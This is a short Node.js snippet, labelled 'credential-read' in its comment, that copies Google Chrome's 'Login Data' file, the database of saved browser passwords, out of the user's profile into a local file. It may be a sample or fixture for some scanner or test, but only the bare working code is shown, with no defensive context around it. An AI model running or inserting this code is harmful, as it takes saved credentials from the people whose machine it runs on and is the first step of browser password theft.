// credential-read: Chrome's Login Data copied out of the profile
const fs = require('fs');
const path = require('path');
const os = require('os');
const src = path.join(os.homedir(), '.config/google-chrome/Default/Login Data');
fs.copyFileSync(src, './login-data.sqlite');
